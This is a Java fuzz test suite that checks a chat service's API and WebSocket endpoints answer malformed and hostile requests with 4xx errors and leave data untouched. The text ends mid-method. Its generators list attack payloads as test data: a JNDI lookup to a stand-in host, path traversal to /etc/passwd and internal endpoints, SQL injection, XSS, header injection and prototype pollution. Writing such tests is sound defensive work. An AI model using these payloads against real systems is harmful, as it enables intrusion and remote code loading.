package dev.carrier.e2e;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpRequest.BodyPublishers;
import java.net.http.HttpResponse.BodyHandlers;
import java.net.http.HttpTimeoutException;
import java.net.http.WebSocket;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Queue;
import java.util.SplittableRandom;
import java.util.TreeMap;
import java.util.UUID;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.CompletionStage;
import java.util.concurrent.ExecutionException;
import java.util.concurrent.ConcurrentHashMap;
import java.util.concurrent.ConcurrentLinkedQueue;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.LongAdder;
import java.util.function.Function;
import java.util.random.RandomGenerator;
import java.util.stream.Collectors;

import static java.util.Map.entry;

import dev.carrier.e2e.support.CarrierApi;
import dev.carrier.e2e.support.Chats;
import dev.carrier.e2e.support.EventSocket;
import dev.carrier.e2e.support.ProblemCheck;
import dev.carrier.e2e.support.RawHttp;
import dev.carrier.e2e.support.TestUser;
import dev.carrier.e2e.support.Gen;
import org.awaitility.Awaitility;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import tools.jackson.databind.JsonNode;

/**
 * Generated-case fuzzing of every call of docs/api.md through the gateway: malformed,
 * oversize, wrongly typed and hostile requests (bodies, headers, paths, query parameters,
 * images, WebSocket frames), sent with a valid token where one is needed. Every answer
 * must be a 4xx problem document, never a 5xx, never a trace, and nothing the fuzzing
 * user (or anyone else) can see may change.
 *
 * <p>
 * Size: {@code -Dcarrier.fuzz.requests=N} (default 10,000 HTTP requests, plus a few
 * hundred WebSocket frames). Requests of one batch run in parallel on virtual threads.
 *
 * <p>
 * Cases are drawn from {@code -Dcarrier.fuzz.seed=N} (default: a fresh random seed); the
 * seed is printed at the start and named in every failure, so a run can be replayed (the
 * fixture's ids are new in each run).
 */
class FuzzEndToEndTests {

	static final int REQUESTS = Integer.getInteger("carrier.fuzz.requests", 10_000);

	static final int BATCHES = 200;

	static final int WEB_SOCKET_TRIES = 20;

	static final long SEED = Long.getLong("carrier.fuzz.seed", new SplittableRandom().nextLong());

	/** Appended to every assertion message. */
	static final String REPLAY = " [fuzz seed " + SEED + ", replay with -Dcarrier.fuzz.seed=" + SEED + "]";

	static final int BATCH_SIZE = Math.max(1, REQUESTS / BATCHES);

	static final int PARALLELISM = Integer.getInteger("carrier.fuzz.parallelism", 16);

	/**
	 * Requests per second made with the fuzzer's token (0 = no limit). A stack with
	 * production rate limits (50/s per user) answers most of a faster run with 429;
	 * {@code ./carrier test} lifts those limits.
	 */
	static final int USER_RATE = Integer.getInteger("carrier.fuzz.userRate", 0);

	private static final java.util.concurrent.atomic.AtomicLong NEXT_SLOT = new java.util.concurrent.atomic.AtomicLong();

	private static final HttpClient HTTP = HttpClient.newBuilder()
		.connectTimeout(Duration.ofSeconds(5))
		.version(HttpClient.Version.HTTP_1_1)
		.build();

	private static final Duration CLIENT_TIMEOUT = Duration.ofSeconds(30);

	/**
	 * The WebSocket message limit: chat-service's carrier.realtime.max-frame-size and
	 * Netty's default in the gateway.
	 */
	private static final int MAX_FRAME_BYTES = 64 * 1024;

	/** How strictly an answer is judged. */
	enum Strictness {

		/** A 4xx problem document, nothing else. */
		STRICT,
		/**
		 * Also acceptable: the server refuses by closing the connection (oversize
		 * bodies).
		 */
		MAY_CLOSE,
		/**
		 * Malformed at the HTTP layer (request line, header syntax, header/URL size): the
		 * HTTP codec answers before any application code, so a bare 4xx or a close is
		 * acceptable; never a 5xx or a trace.
		 */
		PROTOCOL

	}

	/** One hostile request. {@code raw} requests go byte by byte over a socket. */
	record Hostile(String label, String method, String target, List<String[]> headers, byte[] body, boolean raw,
			Strictness strictness) {

		@Override
		public String toString() {
			String shownBody = body == null ? "" : " body=" + abbreviate(new String(body, StandardCharsets.UTF_8), 160);
			String shownHeaders = headers.stream()
				.map(h -> h[0] + ": " + abbreviate(h[1], 60))
				.collect(Collectors.joining(", ", " [", "]"));
			return label + " :: " + method + " " + abbreviate(target, 160) + shownHeaders + shownBody
					+ (raw ? " (raw)" : "");
		}

	}

	/**
	 * The people and chats the fuzzing runs against, and what they could see before it
	 * started.
	 */
	record Fixture(TestUser fuzzer, TestUser peer, TestUser third, TestUser victim, TestUser victimFriend,
			String direct, String group, String foreign, List<String> peerMessageIds, List<String> fuzzerMessageIds,
			List<String> foreignMessageIds) {
	}

	static Fixture fx;

	static Map<String, String> before;

	static EventSocket victimLive;

	static final Map<String, LongAdder> STATUSES = new ConcurrentHashMap<>();

	static final Map<String, LongAdder> LABELS = new ConcurrentHashMap<>();

	static final Queue<String> VIOLATIONS = new ConcurrentLinkedQueue<>();

	static final LongAdder SENT = new LongAdder();

	static final LongAdder FRAMES = new LongAdder();

	static long startedNanos;

	@BeforeAll
	static void createTheFixtureNamingTheSeed() {
		System.out.println("fuzz: seed " + SEED + " (replay with -Dcarrier.fuzz.seed=" + SEED + ")");
		try {
			createTheFixture();
		}
		catch (AssertionError | RuntimeException ex) {
			throw new AssertionError("the fuzz fixture could not be made: " + ex.getMessage() + REPLAY, ex);
		}
	}

	static void createTheFixture() {
		TestUser fuzzer = TestUser.signUp("fuzz");
		TestUser peer = TestUser.signUp("fpeer");
		TestUser third = TestUser.signUp("fthird");
		TestUser victim = TestUser.signUp("fvictim");
		TestUser victimFriend = TestUser.signUp("ffriend");
		String direct = Chats.create(fuzzer, List.of(peer.username()), null).get("id").asString();
		String group = Chats.create(fuzzer, List.of(peer.username(), third.email()), "fuzz group").get("id").asString();
		String foreign = Chats.create(victim, List.of(victimFriend.username()), null).get("id").asString();
		List<String> peerMessages = new ArrayList<>();
		List<String> fuzzerMessages = new ArrayList<>();
		List<String> foreignMessages = new ArrayList<>();
		fuzzerMessages.add(Chats.send(fuzzer, direct, "hello peer").get("id").asString());
		peerMessages.add(Chats.send(peer, direct, "hello fuzzer").get("id").asString());
		peerMessages.add(Chats.send(peer, direct, "unread one").get("id").asString());
		peerMessages.add(Chats.send(third, group, "group hello").get("id").asString());
		fuzzerMessages.add(Chats.send(fuzzer, group, "group answer").get("id").asString());
		foreignMessages.add(Chats.send(victim, foreign, "private").get("id").asString());
		foreignMessages.add(Chats.send(victimFriend, foreign, "private too").get("id").asString());
		fx = new Fixture(fuzzer, peer, third, victim, victimFriend, direct, group, foreign, peerMessages,
				fuzzerMessages, foreignMessages);
		before = snapshot();
		victimLive = EventSocket.connect(victim.token());
		startedNanos = System.nanoTime();
	}

	/** Everything the fuzzing must not change, as the people involved see it. */
	static Map<String, String> snapshot() {
		Map<String, String> seen = new LinkedHashMap<>();
		seen.put("fuzzer profile", body(CarrierApi.get("/api/users/me", fx.fuzzer().token())));
		seen.put("peer profile", body(CarrierApi.get("/api/users/me", fx.peer().token())));
		seen.put("fuzzer avatar",
				String.valueOf(CarrierApi.get("/api/users/" + fx.fuzzer().id() + "/avatar", null).status()));
		seen.put("fuzzer chats", body(CarrierApi.get("/api/chats", fx.fuzzer().token())));
		seen.put("peer chats", body(CarrierApi.get("/api/chats", fx.peer().token())));
		seen.put("victim chats", body(CarrierApi.get("/api/chats", fx.victim().token())));
		for (var chat : List.of(new Pair<>(fx.direct(), fx.peer()), new Pair<>(fx.group(), fx.third()),
				new Pair<>(fx.foreign(), fx.victim()))) {
			seen.put("messages of " + chat.first(),
					body(CarrierApi.get("/api/chats/" + chat.first() + "/messages", chat.second().token())));
			seen.put("chat " + chat.first(), body(CarrierApi.get("/api/chats/" + chat.first(), chat.second().token())));
		}
		return seen;
	}

	private static String body(CarrierApi.Reply reply) {
		assertThat(reply.status()).as(reply + REPLAY).isEqualTo(200);
		return reply.text();
	}

	// ------------------------------------------------------------------ the properties

	/**
	 * Each test draws from its own stream of the seed, so one can be replayed without the
	 * other.
	 */
	static RandomGenerator random(String test) {
		return new SplittableRandom(SEED ^ test.hashCode());
	}

	@Test
	void everyHostileRequestGetsA4xxProblemAndChangesNothing() throws Exception {
		RandomGenerator random = random("http");
		Gen<List<Hostile>> batches = hostileBatches();
		for (int batch = 1; batch <= BATCHES; batch++) {
			try {
				sendInParallel(batches.next(random));
			}
			catch (ExecutionException | java.util.concurrent.TimeoutException | RuntimeException ex) {
				throw new AssertionError("HTTP batch " + batch + " of " + BATCHES + " failed: " + ex + REPLAY, ex);
			}
		}
	}

	static void sendInParallel(List<Hostile> batch) throws Exception {
		try (ExecutorService pool = Executors.newVirtualThreadPerTaskExecutor()) {
			var gate = new java.util.concurrent.Semaphore(PARALLELISM);
			List<Future<?>> running = new ArrayList<>();
			for (Hostile request : batch) {
				gate.acquire();
				running.add(pool.submit(() -> {
					try {
						judge(request, send(request));
					}
					finally {
						gate.release();
					}
				}));
			}
			for (Future<?> future : running) {
				future.get(2, TimeUnit.MINUTES);
			}
		}
	}

	@Test
	void webSocketJunkNeitherBreaksTheServerNorReachesAForeignChat() {
		RandomGenerator random = random("ws");
		Gen<List<String>> webSocketFrames = webSocketFrames();
		for (int tryNumber = 1; tryNumber <= WEB_SOCKET_TRIES; tryNumber++) {
			List<String> frames = webSocketFrames.next(random);
			List<String> preAuthFrames = webSocketFrames.next(random);
			try {
				sendJunkFrames(frames, preAuthFrames);
			}
			catch (RuntimeException ex) {
				throw new AssertionError(
						"WebSocket try " + tryNumber + " of " + WEB_SOCKET_TRIES + " failed: " + ex + REPLAY, ex);
			}
		}
	}

	static void sendJunkFrames(List<String> frames, List<String> preAuthFrames) {
		// Before auth: junk as the first frame must end in a refusal, never an internal
		// error.
		for (String frame : preAuthFrames.stream()
			.filter(f -> StandardCharsets.UTF_8.newEncoder().canEncode(f))
			.limit(1)
			.toList()) {
			try (JunkSocket socket = JunkSocket.open()) {
				socket.sendText(frame);
				FRAMES.increment();
				socket.awaitClose(Duration.ofMillis(1500));
				record("ws-preauth", socket.closeCode() == -1 ? "ws open" : "ws close " + socket.closeCode());
				if (!(oversize(frame) && socket.closeCode() == 1006)) {
					checkCloseCode("pre-auth frame " + abbreviate(frame, 80), socket.closeCode());
				}
			}
		}
		JunkSocket socket = JunkSocket.authenticated(fx.fuzzer().token());
		try {
			for (String frame : frames) {
				if (!StandardCharsets.UTF_8.newEncoder().canEncode(frame)) {
					continue; // a lone surrogate cannot even leave the client
				}
				if (socket.closeCode() != -1) {
					socket = JunkSocket.authenticated(fx.fuzzer().token());
				}
				socket.sendText(frame);
				FRAMES.increment();
				socket.awaitClose(Duration.ofMillis(20));
				record("ws", socket.closeCode() == -1 ? "ws open" : "ws close " + socket.closeCode());
				if (!(oversize(frame) && socket.closeCode() == 1006)) {
					checkCloseCode("frame " + abbreviate(frame, 80), socket.closeCode());
				}
			}
		}
		finally {
			socket.close();
		}
	}

	@AfterAll
	static void nothingChangedAndEveryAnswerWasAProblem() {
		if (fx == null) {
			return; // the fixture could not be made; that failure is reported already
		}
		double seconds = (System.nanoTime() - startedNanos) / 1e9;
		System.out.printf("%nfuzz: %d HTTP requests and %d WebSocket frames in %.1f s (%.0f requests/s)%n", SENT.sum(),
				FRAMES.sum(), seconds, SENT.sum() / seconds);
		System.out.println("fuzz: answers by status: " + new TreeMap<>(counts(STATUSES)));
		System.out.println("fuzz: requests by kind: " + new TreeMap<>(counts(LABELS)));
		List<String> violations = new ArrayList<>(VIOLATIONS);
		Map<String, List<String>> byFault = violations.stream()
			.collect(Collectors.groupingBy(v -> v.substring(0, v.indexOf(" <= ")), TreeMap::new, Collectors.toList()));
		System.out.printf("fuzz: %d violations in %d kinds (seed %d)%n", violations.size(), byFault.size(), SEED);
		byFault.forEach((fault, cases) -> {
			System.out.printf("  %5d x %s%n", cases.size(), fault);
			cases.stream()
				.limit(3)
				.forEach(c -> System.out.printf("        e.g. %s%n", c.substring(c.indexOf(" <= ") + 4)));
		});

		// The server is still whole: a fresh session works and sees what it saw before.
		Awaitility.await("a fresh WebSocket session still works" + REPLAY)
			.atMost(Duration.ofSeconds(10))
			.ignoreExceptions()
			.until(() -> {
				EventSocket.connect(fx.fuzzer().token()).close();
				return true;
			});
		Map<String, String> after = snapshot();
		var relogin = CarrierApi.post("/api/auth/login", null,
				Map.of("login", fx.fuzzer().username(), "password", TestUser.PASSWORD));
		List<JsonNode> typingLeaks = victimLive.events("typing")
			.stream()
			.filter(e -> fx.fuzzer().id().equals(e.path("userId").asString()))
			.toList();
		victimLive.close();

		assertThat(SENT.sum()).as("requests sent" + REPLAY).isGreaterThanOrEqualTo(REQUESTS);
		List<String> changed = before.keySet()
			.stream()
			.filter(key -> !before.get(key).equals(after.get(key)))
			.map(key -> key + ":\n    before " + abbreviate(before.get(key), 600) + "\n    after  "
					+ abbreviate(after.get(key), 600))
			.toList();
		assertThat(changed).as("what the fuzzer, its peers and a stranger see, changed by refused requests" + REPLAY)
			.isEmpty();
		assertThat(relogin.status()).as("the fuzzer's password is unchanged: " + relogin + REPLAY).isIn(200, 429);
		assertThat(typingLeaks).as("typing in a foreign chat reached its members" + REPLAY).isEmpty();
		assertThat(violations).as("hostile requests answered with something else than a 4xx problem" + REPLAY)
			.isEmpty();
	}

	private static Map<String, Long> counts(Map<String, LongAdder> adders) {
		return adders.entrySet().stream().collect(Collectors.toMap(Map.Entry::getKey, e -> e.getValue().sum()));
	}

	// ------------------------------------------------------------------ sending and
	// judging

	record Answer(int status, CarrierApi.Reply reply, boolean timedOut, String error) {
	}

	static void paceUserRequests(Hostile request) {
		boolean withToken = request.headers().stream().anyMatch(h -> h[1].contains(fx.fuzzer().token()));
		if (USER_RATE <= 0 || !withToken) {
			return;
		}
		long interval = 1_000_000_000L / USER_RATE;
		long slot = NEXT_SLOT.accumulateAndGet(System.nanoTime(), (last, now) -> Math.max(last + interval, now));
		long wait = slot - System.nanoTime();
		if (wait > 0) {
			java.util.concurrent.locks.LockSupport.parkNanos(wait);
		}
	}

	static Answer send(Hostile request) {
		paceUserRequests(request);
		SENT.increment();
		if (request.raw()) {
			StringBuilder head = new StringBuilder(request.method() + " " + request.target() + " HTTP/1.1\r\n");
			head.append("Host: ").append(CarrierApi.BASE.getAuthority()).append("\r\n");
			for (String[] header : request.headers()) {
				head.append(header[0]).append(": ").append(header[1]).append("\r\n");
			}
			boolean hasLength = request.headers()
				.stream()
				.anyMatch(h -> h[0].equalsIgnoreCase("Content-Length") || h[0].equalsIgnoreCase("Transfer-Encoding"));
			if (request.body() != null && !hasLength) {
				head.append("Content-Length: ").append(request.body().length).append("\r\n");
			}
			head.append("Connection: close\r\n");
			RawHttp.Answer answer = RawHttp.send(head.toString(), request.body());
			return new Answer(answer.status(), answer.asReply(), answer.timedOut(), null);
		}
		HttpRequest.Builder builder;
		try {
			builder = HttpRequest.newBuilder(URI.create(CarrierApi.BASE + request.target())).timeout(CLIENT_TIMEOUT);
			for (String[] header : request.headers()) {
				builder.header(header[0], header[1]);
			}
		}
		catch (IllegalArgumentException ex) {
			// What HttpClient will not send (odd characters, restricted headers) goes
			// over a socket.
			SENT.decrement();
			return send(new Hostile(request.label(), request.method(), request.target(), request.headers(),
					request.body(), true, request.strictness()));
		}
		try {
			builder.method(request.method(),
					request.body() == null ? BodyPublishers.noBody() : BodyPublishers.ofByteArray(request.body()));
			var response = HTTP.send(builder.build(), BodyHandlers.ofByteArray());
			return new Answer(response.statusCode(),
					new CarrierApi.Reply(response.statusCode(), response.headers().map(), response.body()), false,
					null);
		}
		catch (HttpTimeoutException ex) {
			return new Answer(-1, null, true, ex.toString());
		}
		catch (IOException ex) {
			return new Answer(-1, null, false, ex.toString());
		}
		catch (InterruptedException ex) {
			Thread.currentThread().interrupt();
			throw new IllegalStateException(ex);
		}
	}

	static void judge(Hostile request, Answer answer) {
		String status = answer.timedOut() ? "timeout"
				: answer.status() == -1 ? "closed" : String.valueOf(answer.status());
		record(request.label(), status);
		List<String> faults = new ArrayList<>();
		if (answer.timedOut()) {
			faults.add("no answer within the client timeout");
		}
		else if (answer.status() == -1) {
			if (request.strictness() == Strictness.STRICT) {
				faults.add("connection closed without an answer");
			}
		}
		else if (request.strictness() == Strictness.PROTOCOL) {
			if (answer.status() < 400 || answer.status() > 499) {
				faults.add("status " + answer.status() + " (want 4xx)");
			}
			faults.addAll(ProblemCheck.leaks(answer.reply()));
		}
		else {
			faults.addAll(ProblemCheck.refusalFaults(answer.reply()));
		}
		for (String fault : faults) {
			String answered = answer.reply() == null ? String.valueOf(answer.error()) : answer.status() + " "
					+ answer.reply().header("Content-Type") + " " + abbreviate(answer.reply().text(), 300);
			VIOLATIONS.add(request.label() + ": " + fault + " <= " + request + "  ==> " + answered);
		}
	}

	static void record(String label, String status) {
		STATUSES.computeIfAbsent(status, k -> new LongAdder()).increment();
		LABELS.computeIfAbsent(label, k -> new LongAdder()).increment();
	}

	/**
	 * Above the 64 KB frame limit the server may refuse by closing the connection, as it
	 * may for an oversize HTTP body ({@link Strictness#MAY_CLOSE}): it sends its close
	 * frame and drops the rest of the frame, and a client still writing can see the reset
	 * before that close frame.
	 */
	static boolean oversize(String frame) {
		return frame.getBytes(StandardCharsets.UTF_8).length > MAX_FRAME_BYTES;
	}

	static void checkCloseCode(String what, int code) {
		// 1011 is the server's own failure; 1006 means it dropped the connection without
		// a close frame.
		if (code == 1011 || code == 1006) {
			VIOLATIONS.add("ws: closed with " + code + " <= " + what + "  ==> close " + code);
		}
	}

	static String abbreviate(String text, int max) {
		String visible = text.replaceAll("[\\p{Cntrl}]", "\u00b7");
		return visible.length() <= max ? visible : visible.substring(0, max) + "…(" + text.length() + " chars)";
	}

	// ------------------------------------------------------------------ generators

	Gen<List<Hostile>> hostileBatches() {
		return Gen.listOf(hostile(), BATCH_SIZE, BATCH_SIZE);
	}

	Gen<Hostile> hostile() {
		return Gen.frequencyOf(entry(6, signup()), entry(5, login()), entry(3, logout()), entry(3, readMe()),
				entry(6, patchMe()), entry(4, changePassword()), entry(6, avatarUpload()), entry(3, avatarDownload()),
				entry(4, lookup()), entry(6, createChat()), entry(3, listChats()), entry(4, readChat()),
				entry(5, addMembers()), entry(3, leaveChat()), entry(5, markRead()), entry(8, sendMessage()),
				entry(6, history()), entry(4, deleteMessage()), entry(4, export()), entry(2, webSocketOverHttp()),
				entry(4, wrongMethods()), entry(3, unknownPaths()), entry(5, badTokens()),
				entry(4, wrongContentTypes()), entry(4, rawRequests()));
	}

	// --- building blocks

	static String q(String text) {
		StringBuilder json = new StringBuilder("\"");
		for (char c : text.toCharArray()) {
			switch (c) {
				case '"' -> json.append("\\\"");
				case '\\' -> json.append("\\\\");
				default -> {
					if (c < 0x20) {
						json.append(String.format("\\u%04x", (int) c));
					}
					else {
						json.append(c);
					}
				}
			}
		}
		return json.append('"').toString();
	}

	static String deep(int depth, String open, String close) {
		return open.repeat(depth) + close.repeat(depth);
	}

	/** JSON values of the wrong type where a string is due. */
	static Gen<String> notAString() {
		return Gen.oneOf(
				Gen.of("123", "-1", "0", "1.5", "1e400", "true", "false", "[]", "[\"a\"]", "{}", "{\"$gt\":\"\"}",
						"{\"a\":{\"b\":{}}}", "[null]", "99999999999999999999999999"),
				Gen.integers(1, 100_000).map(String::valueOf),
				Gen.of(deep(5_000, "[", "]"), deep(2_000, "{\"a\":", "}").replace("{\"a\":}", "{\"a\":1}")));
	}

	/** JSON values of the wrong type where a number is due. */
	static Gen<String> notANumber() {
		return Gen.oneOf(
				Gen.of("\"abc\"", "\"1\"", "\"\"", "true", "[]", "[1]", "{}", "\"NaN\"", "1.5", "-1", "-9999999999",
						"99999999999999999999999999", "1e400", "-0.0", "\"0x10\"", "\"1; DROP TABLE\""),
				Gen.of(deep(5_000, "[", "]")));
	}

	/**
	 * Strings that are hostile whatever their field: control characters, odd unicode,
	 * injections.
	 */
	static Gen<String> hostileText() {
		return Gen.oneOf(Gen.of("\u0000", "\u0000\u0001\u0002", "\u202Eevil", "\uFEFF", "\uD800", "\uDFFF\uD800",
				"<script>alert(1)</script>", "' OR '1'='1' --", "${jndi:ldap://evil.example/a}", "../../etc/passwd",
				"%00", "\r\nX-Injected: 1", "😀😀😀", "null", "undefined", "*", "%", "_", "\\", "\"", "{{7*7}}"),
				Gen.strings('\u0000', '\u001f', 1, 20), Gen.strings('\u0080', '\uffff', 1, 40), Gen.anyStrings(1, 40));
	}

	static Gen<String> huge() {
		return Gen.integers(5_000, 300_000).map(n -> "x".repeat(n));
	}

	static Gen<String> validUsername() {
		return Gen.strings('a', 'z', 10, 10).map(s -> "fz_" + s);
	}

	static Gen<String> invalidUsername() {
		return Gen.oneOf(
				Gen.of("", "a", "ab", "a b", "ü_ser", "user!", "user/x", "x".repeat(33)).map(FuzzEndToEndTests::q),
				hostileText().filter(t -> !t.matches("[A-Za-z0-9_.-]{3,32}")).map(FuzzEndToEndTests::q),
				huge().map(FuzzEndToEndTests::q), notAString(), Gen.just("null"));
	}

	static Gen<String> invalidEmail() {
		return Gen.oneOf(
				Gen.of("", "no-at-sign", "@", "a@", "@b.c", "a b@c.d", "a@b@c", "<a@b.c>").map(FuzzEndToEndTests::q),
				huge().map(FuzzEndToEndTests::q), notAString(), Gen.just("null"),
				hostileText().filter(t -> !t.contains("@")).map(FuzzEndToEndTests::q));
	}

	static Gen<String> invalidPassword() {
		return Gen.oneOf(Gen.of("", "short", "1234567", "x".repeat(129)).map(FuzzEndToEndTests::q),
				huge().map(FuzzEndToEndTests::q), notAString(), Gen.just("null"));
	}

	/**
	 * A JSON object whose fields are either valid or invalid; at least one invalid or
	 * missing required.
	 */
	record Field(String name, Gen<String> valid, Gen<String> invalid, boolean required) {
	}

	static Gen<String> objectWithAFault(Field... fields) {
		int n = fields.length;
		return Gen.integers(1, (1 << n) - 1).flatMap(mask -> {
			List<Gen<String>> parts = new ArrayList<>();
			for (int i = 0; i < n; i++) {
				Field field = fields[i];
				boolean broken = (mask & (1 << i)) != 0;
				Gen<String> value = broken ? field.invalid() : field.valid();
				Gen<String> member = value.map(v -> q(field.name()) + ":" + v);
				if (broken && field.required()) {
					member = Gen.frequencyOf(entry(4, member), entry(1, Gen.just("")));
				}
				parts.add(member);
			}
			Gen<String> duplicateBroken = fields[Integer.numberOfTrailingZeros(mask)].invalid()
				.map(v -> q(fields[Integer.numberOfTrailingZeros(mask)].name()) + ":" + v);
			return Gen.combine(parts)
				.flatMap(members -> Gen.frequencyOf(entry(8, Gen.just(members)),
						// Duplicate keys: both copies broken, whichever one a parser
						// keeps.
						entry(1, duplicateBroken.map(extra -> {
							List<String> withDuplicate = new ArrayList<>(members);
							withDuplicate.add(extra);
							return withDuplicate;
						}))))
				.map(members -> members.stream().filter(m -> !m.isEmpty()).collect(Collectors.joining(",", "{", "}")));
		});
	}

	/** Bodies that are not the JSON object any endpoint wants. */
	static Gen<String> structuralJunk() {
		return Gen.oneOf(Gen.of("", "{", "}", "[]", "[{}]", "null", "true", "42", "\"text\"", "{\"a\":}", "{'a':'b'}",
				"{\"a\":1,}", "{\"a\" 1}", "\uFEFF{}", "{\"a\":\"\u0000\"}", "{\"a\":\"\\ud800\"}", "{\"a\":NaN}",
				"{\"a\":Infinity}", "{\"a\":01}", "{\"a\":\"\\x41\"}", "<?xml version=\"1.0\"?><a/>", "a=b&c=d",
				"{\"__proto__\":{\"admin\":true}}", "{\"a\":1}{\"b\":2}", "/* c */ {}", "{\"a\":\"b\"// c\n}"),
				Gen.of(deep(100_000, "[", "]"), deep(20_000, "{\"a\":", "}").replace("{\"a\":}", "{\"a\":1}"),
						"[" + "1,".repeat(200_000) + "1]"),
				hostileText(), huge().map(h -> "{\"" + h + "\":1}"));
	}

	static byte[] utf8(String text) {
		return text.getBytes(StandardCharsets.UTF_8);
	}

	static List<String[]> json(String token) {
		List<String[]> headers = new ArrayList<>();
		headers.add(new String[] { "Content-Type", "application/json" });
		if (token != null) {
			headers.add(new String[] { "Authorization", "Bearer " + token });
		}
		return headers;
	}

	static List<String[]> auth(String token) {
		List<String[]> headers = new ArrayList<>();
		headers.add(new String[] { "Authorization", "Bearer " + token });
		return headers;
	}

	static Hostile jsonCall(String label, String method, String path, String token, String body) {
		return new Hostile(label, method, path, json(token), utf8(body), false,
				body.length() > 1_000_000 ? Strictness.MAY_CLOSE : Strictness.STRICT);
	}

	static String token() {
		return fx.fuzzer().token();
	}

	/**
	 * A chat id the fuzzer must not reach: unknown, someone else's, or junk (URL-safe).
	 */
	static Gen<String> foreignOrJunkId() {
		return Gen.oneOf(random -> UUID.randomUUID().toString(),
				Gen.of(fx.foreign(), "0", "-1", "null", "undefined", "%00", "%2e%2e", "..%2F..%2Finternal%2Fusers",
						"%2e%2e%2f%2e%2e%2finternal%2fsessions%2fcurrent", "%E2%80%AE", "%F0%9F%92%A9", "'%20or%201=1",
						"*", "%C0%AE%C0%AE", "%FF%FE", "%3B", "x;jsessionid=1", "%0d%0aX-Injected:%201", "%252e%252e",
						fx.foreign().toUpperCase(), fx.foreign() + "%00", " " + fx.foreign())
					.map(s -> s.replace(" ", "%20")),
				Gen.integers(300, 3_000).map(n -> "a".repeat(n)));
	}

	static Gen<String> ownChat() {
		return Gen.of(fx.direct(), fx.group());
	}

	static Gen<String> unknownNames() {
		return Gen.listOf(Gen.strings('a', 'z', 12, 12).map(s -> "nobody_" + s), 1, 3)
			.map(names -> names.stream().map(FuzzEndToEndTests::q).collect(Collectors.joining(",", "[", "]")));
	}

	static Gen<String> invalidMembers() {
		return Gen.oneOf(
				Gen.of("[]", "\"" + "bob" + "\"", "[[]]", "[{}]", "[null]", "[123]", "[true]", "{}", "[\"\"]",
						"[" + "\"nobody_x\",".repeat(60) + "\"nobody_y\"]"),
				unknownNames(), notAString().filter(v -> !v.startsWith("[\"")), Gen.just("null"),
				huge().map(h -> "[" + q(h) + "]"), hostileText().map(t -> "[" + q(t) + "]"));
	}

	// --- the endpoints of docs/api.md

	Gen<Hostile> signup() {
		Gen<String> body = Gen.oneOf(
				objectWithAFault(
						new Field("username", validUsername().map(FuzzEndToEndTests::q), invalidUsername(), true),
						new Field("email", validUsername().map(u -> q(u + "@example.test")), invalidEmail(), true),
						new Field("password", Gen.just(q("long enough password")), invalidPassword(), true)),
				structuralJunk(),
				// Taken names and addresses, in any case.
				Gen.of(fx.peer().username().toUpperCase(), fx.victim().username())
					.map(u -> "{\"username\":" + q(u) + ",\"email\":" + q(UUID.randomUUID() + "@example.test")
							+ ",\"password\":\"long enough password\"}"));
		return body.map(b -> jsonCall("signup", "POST", "/api/auth/signup", null, b));
	}

	Gen<Hostile> login() {
		Gen<String> body = Gen.frequencyOf(
				entry(12, objectWithAFault(
						new Field("login", Gen.just(q(fx.peer().username())),
								Gen.oneOf(notAString(), Gen.just("null"), huge().map(FuzzEndToEndTests::q)), true),
						new Field("password", Gen.just(q("not the password")),
								Gen.oneOf(notAString(), Gen.just("null"), huge().map(FuzzEndToEndTests::q)), true))),
				entry(6, structuralJunk()),
				// Well formed but wrong: each costs a password hash, so they are rare.
				entry(1, hostileText().map(t -> "{\"login\":" + q(t) + ",\"password\":\"wrong password\"}")),
				entry(1, Gen.just("{\"login\":" + q(fx.fuzzer().username()) + ",\"password\":\"wrong password\"}")));
		return body.map(b -> jsonCall("login", "POST", "/api/auth/login", null, b));
	}

	Gen<Hostile> logout() {
		return badAuthorization()
			.map(h -> new Hostile("logout", "POST", "/api/auth/logout", h, null, false, Strictness.STRICT));
	}

	Gen<Hostile> readMe() {
		return badAuthorization()
			.map(h -> new Hostile("me", "GET", "/api/users/me", h, null, false, Strictness.STRICT));
	}

	Gen<Hostile> patchMe() {
		// null is left out: for an optional field of a PATCH it means "not given", a
		// valid no-op.
		Gen<String> body = Gen.oneOf(
				objectWithAFault(
						new Field("username", Gen.just(q(fx.fuzzer().username())),
								invalidUsername().filter(v -> !v.equals("null")), false),
						new Field("email", Gen.just(q(fx.fuzzer().email())),
								invalidEmail().filter(v -> !v.equals("null")), false)),
				// An object with none of the fields is a valid empty patch, so only
				// non-objects here.
				structuralJunk().filter(b -> !b.contains("{")),
				// Someone else's name or address.
				Gen.of("{\"username\":" + q(fx.peer().username()) + "}",
						"{\"username\":" + q(fx.victim().username().toUpperCase()) + "}",
						"{\"email\":" + q(fx.peer().email().toUpperCase()) + "}"));
		return body.map(b -> jsonCall("patch-me", "PATCH", "/api/users/me", token(), b));
	}

	Gen<Hostile> changePassword() {
		Gen<String> body = Gen.frequencyOf(
				entry(8, objectWithAFault(
						new Field("currentPassword", Gen.just(q(TestUser.PASSWORD)),
								Gen.oneOf(notAString(), Gen.just("null"), huge().map(FuzzEndToEndTests::q)), true),
						new Field("newPassword", Gen.just(q("another good password")), invalidPassword(), true))),
				entry(4, structuralJunk()), entry(1, Gen
					.just("{\"currentPassword\":\"wrong password\",\"newPassword\":\"another good password\"}")));
		return body.map(b -> jsonCall("password", "PUT", "/api/users/me/password", token(), b));
	}

	static final byte[] PNG_SIGNATURE = { (byte) 0x89, 'P', 'N', 'G', '\r', '\n', 0x1a, '\n' };

	static byte[] concat(byte[] head, byte[] tail) {
		byte[] all = Arrays.copyOf(head, head.length + tail.length);
		System.arraycopy(tail, 0, all, head.length, tail.length);
		return all;
	}

	static byte[] oversizePng(int size) {
		byte[] image = new byte[size];
		System.arraycopy(PNG_SIGNATURE, 0, image, 0, PNG_SIGNATURE.length);
		return image;
	}

	Gen<Hostile> avatarUpload() {
		Function<Pair<byte[], String>, Hostile> upload = t -> {
			List<String[]> headers = auth(token());
			headers.add(new String[] { "Content-Type", t.second() });
